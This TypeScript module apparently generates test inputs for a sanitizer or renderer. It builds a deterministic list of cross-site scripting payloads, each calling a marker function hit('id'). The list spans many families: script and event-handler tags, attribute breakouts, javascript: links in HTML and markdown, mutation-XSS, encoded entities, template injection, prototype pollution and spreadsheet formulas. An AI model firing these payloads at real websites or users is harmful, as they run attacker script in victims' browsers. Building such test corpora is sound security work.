/** A text that would run a script where it is taken for more than text. */
export interface Payload {
  /** Passed on by the script when it runs. */
  id: string;
  family: string;
  text: string;
}

type Family = readonly [name: string, texts: (run: string) => readonly string[]];

/** What is tried, by the trick it plays. `run` is the script: `hit('7')`. */
const families: readonly Family[] = [
  [
    "script",
    (run) => [
      `<script>${run}</script>`,
      `<script src="data:,${run}"></script>`,
      `</script><script>${run}</script>`,
      `<script type=module>${run}</script>`,
      `<svg><script>${run}</script></svg>`,
    ],
  ],
  [
    "handler",
    (run) =>
      [
        "img src=x onerror",
        "svg onload",
        "body onload",
        "details open ontoggle",
        "input autofocus onfocus",
        "video src=x onerror",
        "audio src=x onerror",
        "marquee onstart",
        "object data=x onerror",
        "style onload",
        "a onmouseover",
      ].map((each) => `<${each}="${run}">`),
  ],
  [
    "breakout",
    (run) => [
      `"><img src=x onerror=${run}>`,
      `'><svg onload=${run}>`,
      `" autofocus onfocus="${run}" x="`,
      `' onmouseover='${run}' x='`,
      `--><img src=x onerror=${run}>`,
      `]]><img src=x onerror=${run}>`,
      `</title><svg onload=${run}>`,
      `</textarea><img src=x onerror=${run}>`,
      `</style><img src=x onerror=${run}>`,
    ],
  ],
  [
    "scheme",
    (run) =>
      [
        "javascript:",
        "JaVaScRiPt:",
        " javascript:",
        "java\tscript:",
        "java\nscript:",
        "\u0001javascript:",
        "javascript&colon;",
        "&#106;avascript:",
        "vbscript:",
        "data:text/html,<script>",
        "view-source:javascript:",
        "javascript://example.org/%0a",
      ].map((each) => `${each}${run}`),
  ],
  [
    "link",
    (run) =>
      [
        "javascript:",
        "java&#115;cript:",
        "JAVASCRIPT:",
        "vbscript:",
        "data:text/html;base64,",
        "javascript&#58;",
        "\\x6Aavascript:",
        "//evil.example/",
        "/\\evil.example/",
        "user:javascript:",
        "key:javascript:",
        "attachment:javascript:",
      ].map((each) => `<a href="${each}${run}">here</a>`),
  ],
  [
    "markdown link",
    (run) =>
      [
        "javascript:",
        "JavaScript:",
        "javascript&colon;",
        "&#x6A;avascript:",
        "vbscript:",
        "data:text/html,",
        "<javascript:",
        "user:javascript:",
        "attachment:../../",
      ].map((each) => `[here](${each}${encodeURI(run)}${each.startsWith("<") ? ">" : ""})`),
  ],
  [
    "markdown image",
    (run) => [
      `![x](javascript:${run})`,
      `![x](x"onerror="${run})`,
      `![x](x' onerror='${run})`,
      `![" onerror="${run}](attachment:01890000-0000-7000-8000-000000000001)`,
      `![x](data:image/svg+xml,<svg/onload=${run}>)`,
      `![x](attachment:x"onerror="${run})`,
    ],
  ],
  [
    "markdown reference",
    (run) => [
      `[here][1]\n\n[1]: javascript:${run}`,
      `[here]\n\n[here]: <javascript:${run}>`,
      `[^1]\n\n[^1]: <img src=x onerror=${run}>`,
      `<javascript:${run}>`,
      `<a@b.c" onmouseover="${run}>`,
    ],
  ],
  [
    "markdown block",
    (run) => [
      `\`\`\`html"><img src=x onerror=${run}>\n\`\`\``,
      `| <img src=x onerror=${run}> |\n|---|\n| [a](javascript:${run}) |`,
      `> <svg onload=${run}>`,
      `- [ ] <img src=x onerror=${run}>`,
      `# <iframe srcdoc="<script>parent.${run}</script>">`,
      `~~<img src=x onerror=${run}>~~`,
    ],
  ],
  [
    "mention",
    (run) => [
      `@[<img src=x onerror=${run}>](user:01890000-0000-7000-8000-000000000001)`,
      `@[x](user:" onmouseover="${run})`,
      `CRM-1<img src=x onerror=${run}>`,
      `CRM-1" onfocus="${run}`,
    ],
  ],
  [
    "frame",
    (run) => [
      `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
      `<iframe src="javascript:parent.${run}"></iframe>`,
      `<embed src="javascript:${run}">`,
      `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
      `<frameset onload=${run}>`,
      `<portal src="javascript:${run}">`,
    ],
  ],
  [
    "form",
    (run) => [
      `<form action="javascript:${run}"><button>x</button></form>`,
      `<button formaction="javascript:${run}">x</button>`,
      `<input type=image src=x onerror=${run}>`,
      `<isindex action="javascript:${run}">`,
    ],
  ],
  [
    "page",
    (run) => [
      `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
      `<base href="javascript:${run}//">`,
      `<link rel=stylesheet href="data:text/css,*{x:expression(${run})}">`,
      `<link rel=import href="data:text/html,<script>${run}</script>">`,
    ],
  ],
  [
    "style",
    (run) => [
      `<style>@import 'javascript:${run}';</style>`,
      `<div style="background:url(javascript:${run})">`,
      `<div style="width:expression(${run})">`,
      `<style>*{animation-name:x}</style><p onanimationstart=${run}>`,
      `</style><script>${run}</script>`,
    ],
  ],
  [
    "mutation",
    (run) => [
      `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
      `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
      `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
      `<template><script>${run}</script></template>`,
      `<xmp><p title="</xmp><svg/onload=${run}>">`,
      `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
    ],
  ],
  [
    "entity",
    (run) => [
      `&lt;img src=x onerror=${run}&gt;`,
      `&#60;img src=x onerror=${run}&#62;`,
      `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`,
      `\\u003cimg src=x onerror=${run}\\u003e`,
      `%3Cimg%20src=x%20onerror=${run}%3E`,
      `\uff1cimg src=x onerror=${run}\uff1e`,
      `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    ],
  ],
  [
    "template",
    (run) => [
      `{{constructor.constructor("${run}")()}}`,
      `\${${run}}`,
      `#{${run}}`,
      `<%= ${run} %>`,
      `{{"a".constructor.prototype.charAt=[].join;${run}}}`,
      `$t(${run})`,
      `{{x, ${run}}}`,
    ],
  ],
  [
    "data",
    (run) => [
      `{"__proto__":{"innerHTML":"<img src=x onerror=${run}>"}}`,
      `__proto__[onerror]=${run}`,
      `'-${run}-'`,
      `";${run};//`,
      `=HYPERLINK("javascript:${run}")`,
      `\u202e<img src=x onerror=${run}>`,
      `<!--#exec cmd="${run}"-->`,
    ],
  ],
];

/** How each is disguised. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll(/<([a-z]+)/g, (_, name: string) => `<${name.toUpperCase()}`),
  (text) => text.replaceAll(/ (on\w+)=/g, "/$1="),
  (text) => `text before ${text} and after`,
  (text) => `\n\n${text}\n`,
  (text) => `<div title='x'>${text}</div>`,
];

/** As many different payloads as asked for, of every family, in an order that is always the same. */
export function xssPayloads(count: number): Payload[] {
  const payloads: Payload[] = [];
  const seen = new Set<string>();
  for (const disguise of disguises)
    for (const [family, texts] of families)
      for (const [index] of texts("").entries()) {
        const id = String(payloads.length);
        const plain = disguise(texts("hit()")[index] ?? "");
        if (seen.has(plain)) continue;
        seen.add(plain);
        payloads.push({ id, family, text: disguise(texts(`hit('${id}')`)[index] ?? "") });
      }
  if (payloads.length < count) throw new Error(`There are only ${payloads.length} payloads.`);
  // Spread over the families where fewer are asked for.
  const step = payloads.length / count;
  return Array.from({ length: count }, (_, index) => payloads[Math.floor(index * step)] as Payload);
}
